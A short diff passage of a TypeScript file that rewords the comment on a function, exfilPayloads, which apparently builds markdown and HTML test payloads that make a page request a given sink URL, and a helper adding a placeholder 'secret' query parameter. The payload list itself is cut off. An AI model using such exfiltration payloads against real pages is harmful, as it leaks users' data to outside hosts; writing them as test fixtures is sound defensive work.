@@ -1,4 +1,4 @@
-/** What a stranger may write to make a page ask for an address of his, `sink`: markdown first, then HTML. */
+/** Untrusted texts that try to make a page request the URL `sink`: markdown first, then HTML. */
 export function exfilPayloads(sink: string): readonly string[] {
   const at = (n: number) => `${sink}/hit-${n}?secret=s3cret`;
   return [
